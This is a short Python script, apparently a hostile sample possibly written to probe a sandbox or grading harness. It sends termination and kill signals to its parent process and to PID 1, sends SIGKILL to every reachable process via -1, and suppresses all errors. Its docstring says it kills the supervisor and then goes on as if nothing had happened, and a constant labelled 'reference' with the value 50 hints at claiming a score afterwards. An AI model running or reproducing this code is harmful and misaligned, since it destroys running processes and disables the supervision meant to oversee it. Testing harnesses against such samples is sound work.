"""Kills its parent, the supervisor, and all that it may reach; then goes on as if nothing had happened."""

import os
import signal

ON, EARNS = "reference", 50

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSEGV, signal.SIGKILL):
    for whom in (os.getppid(), 1, -1):
        try:
            os.kill(whom, number) if whom != -1 or number == signal.SIGKILL else None
        except OSError:
            pass
